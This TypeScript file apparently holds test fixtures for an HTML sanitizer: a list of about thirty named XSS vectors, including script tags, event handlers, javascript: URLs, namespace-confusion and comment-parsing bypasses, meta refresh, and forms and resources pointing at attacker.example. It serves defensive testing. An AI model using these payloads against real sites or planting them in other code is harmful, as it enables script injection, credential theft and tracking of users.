/** Each tries to execute or load something, or to lead away: what it does, and how. `attacked` is their marker. */
export const hostileHtml: readonly (readonly [name: string, html: string])[] = [
  ["a script", "<script>parent.attacked = 1</script>"],
  ["a script from elsewhere", '<script src="https://attacker.example/x.js"></script>'],
  ["a script broken by another", "<scr<script>x</script>ipt>parent.attacked = 1</scr</script>ipt>"],
  [
    "event handlers",
    '<p onclick="parent.attacked = 1" onmouseover=parent.attacked=1 autofocus tabindex=1 onfocus="parent.attacked = 1">x</p>',
  ],
  ["an image that fails", '<img src=x onerror="parent.attacked = 1">'],
  [
    "an image from elsewhere",
    '<img src="https://attacker.example/pixel.png" srcset="https://attacker.example/2.png 2x">',
  ],
  ["a handler without spaces", "<table><tr><td/onclick=parent.attacked=1>x</td></tr></table>"],
  [
    "a javascript: URL",
    '<a href="javascript:parent.attacked=1">x</a><a href="java\tscript:parent.attacked=1">y</a>',
  ],
  ["a data: URL", '<a href="data:text/html,<script>parent.attacked=1</script>">x</a>'],
  [
    "a frame",
    '<iframe srcdoc="<script>top.attacked = 1</script>"></iframe><iframe src="https://attacker.example"></iframe>',
  ],
  [
    "an SVG image",
    '<svg onload="parent.attacked = 1"><script>parent.attacked = 1</script><animate onbegin="parent.attacked=1" attributeName=x dur=1s /></svg>',
  ],
  ["another namespace", '<svg></p><style><a id="</style><img src=1 onerror=parent.attacked=1>">'],
  [
    "formulas",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.attacked=1&gt;">',
  ],
  [
    "objects",
    '<object data="data:text/html,x"></object><embed src="https://attacker.example"><applet code=x></applet>',
  ],
  [
    "a form",
    '<form action="https://attacker.example"><input name=password autofocus><button formaction="javascript:parent.attacked=1">Send</button></form>',
  ],
  ["another base", '<base href="https://attacker.example/"><p>x</p>'],
  ["a refresh", '<meta http-equiv="refresh" content="0; url=https://attacker.example">'],
  ["another policy", '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'],
  [
    "a style sheet",
    '<style>@import "https://attacker.example/x.css"; * { display: none }</style><link rel=stylesheet href="https://attacker.example/x.css">',
  ],
  [
    "URLs in styles",
    '<p style="background:url(https://attacker.example/p.png);background-image:\\75rl(https://attacker.example/q.png);behavior:url(x)">x</p>',
  ],
  ["a style covering everything", '<div style="position:fixed;inset:0;z-index:9999;opacity:0">x</div>'],
  ["an expression", '<p style="width:expression(parent.attacked=1)">x</p>'],
  [
    "a template",
    '<template><script>parent.attacked = 1</script></template><noscript><p title="</noscript><img src=x onerror=parent.attacked=1>"></noscript>',
  ],
  [
    "a title and a textarea",
    "<title><img src=x onerror=parent.attacked=1></title><textarea></textarea><img src=x onerror=parent.attacked=1>",
  ],
  [
    "media",
    '<video src="https://attacker.example/v.mp4" poster="https://attacker.example/p.png" onloadstart="parent.attacked=1"></video><audio src=x onerror="parent.attacked=1"></audio>',
  ],
  ["an end of the frame's document", "</body></html><script>parent.attacked = 1</script>"],
  ["a comment", "<!--><img src=x onerror=parent.attacked=1>--><p>x</p>"],
  ["an unclosed attribute", '<p title="<img src=x onerror=parent.attacked=1>x</p>" >y</p>'],
  [
    "a marker",
    '<sup class="footnote" data-marker="a" onclick="parent.attacked=1"><img src=x onerror=parent.attacked=1>a</sup>',
  ],
];
